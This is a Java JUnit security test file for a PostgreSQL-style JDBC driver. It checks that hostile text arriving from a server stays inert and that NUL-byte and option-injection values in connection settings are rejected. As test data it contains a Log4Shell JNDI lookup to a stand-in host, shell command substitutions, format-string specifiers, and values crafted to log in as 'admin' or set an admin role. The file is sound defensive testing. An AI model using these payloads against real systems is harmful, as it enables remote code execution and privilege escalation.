package io.howdah.security;

import static io.howdah.peer.BackendMessages.commandComplete;
import static io.howdah.peer.BackendMessages.errorResponse;
import static io.howdah.peer.BackendMessages.noticeResponse;
import static io.howdah.peer.BackendMessages.readyForQuery;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.howdah.peer.ScriptedPeer;
import java.sql.DriverManager;
import java.sql.SQLException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Words that are more than words to somebody: they stay words. */
class HostileWordsScriptTest {
    /** Log4Shell and its like (CVE-2021-44228, CVE-2012-1151). */
    @ParameterizedTest
    @ValueSource(strings = {"${jndi:ldap://evil.example/x}", "{} {0} {1}", "%n %s %x %1$s", "$(id) `id`"})
    void aServersTextIsPassedOnAsItIs(String text) throws Exception {
        try (var peer = ScriptedPeer.start(client -> client.welcome()
                        .expectQuery("select 1")
                        .send(noticeResponse("NOTICE", "00000", text), commandComplete("DO"), readyForQuery('I'))
                        .expectQuery("select 2")
                        .send(errorResponse("ERROR", "42601", text), readyForQuery('I')));
                var connection = DriverManager.getConnection(peer.jdbcUrl());
                var statement = connection.createStatement()) {
            statement.execute("select 1");
            assertThat(statement.getWarnings().getMessage()).isEqualTo(text);
            assertThatThrownBy(() -> statement.execute("select 2")).hasMessage("ERROR: " + text);
        }
    }

    /** In the startup message a zero ends a value: behind it somebody else could log in. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "user=me",
                "PGDBNAME=mine",
                "ApplicationName=x",
                "options=x",
                "currentSchema=x",
                "param.work_mem=x",
                "timeZone=UTC"
            })
    void aZeroCharacterGoesNowhere(String setting) throws Exception {
        try (var peer = ScriptedPeer.start()) {
            String url = "jdbc:howdah://" + peer.host() + ":" + peer.port() + "/?sslmode=disable&" + setting
                    + "%00user%00admin";
            assertThatThrownBy(() -> DriverManager.getConnection(url))
                    .isInstanceOf(SQLException.class)
                    .hasMessageNotContaining("\0");
            assertThat(peer.connections()).isZero();
        }
    }

    @Test
    void norDoesItOnceConnected() throws Exception {
        try (var peer = ScriptedPeer.start(client -> client.welcome());
                var connection = DriverManager.getConnection(peer.jdbcUrl())) {
            assertThatThrownBy(() -> connection.setSchema("x\0user")).isInstanceOf(SQLException.class);
            assertThatThrownBy(() -> connection.setClientInfo("ApplicationName", "x\0user"))
                    .isInstanceOf(SQLException.class);
            assertThatThrownBy(() -> connection.prepareStatement("select ?").setString(1, "x\0"))
                    .isInstanceOf(SQLException.class);
            // The peer fails if anything but a goodbye comes.
        }
    }

    /** Each is a key of its own, so that no value of one becomes another option. */
    @Test
    void aValueWithBlanksStaysOneValue() throws Exception {
        try (var peer = ScriptedPeer.start(client -> {
                    client.expectStartup();
                    assertThat(client.startupParameters())
                            .containsEntry("search_path", "x -c role=admin\\ y")
                            .containsEntry("work_mem", "1MB -c role=admin")
                            .doesNotContainKey("options");
                    client.greet();
                });
                var connection = DriverManager.getConnection(peer.jdbcUrl(
                        "currentSchema=x%20-c%20role=admin%5C%20y", "param.work_mem=1MB%20-c%20role=admin"))) {
            assertThat(connection.isClosed()).isFalse();
        }
    }
}
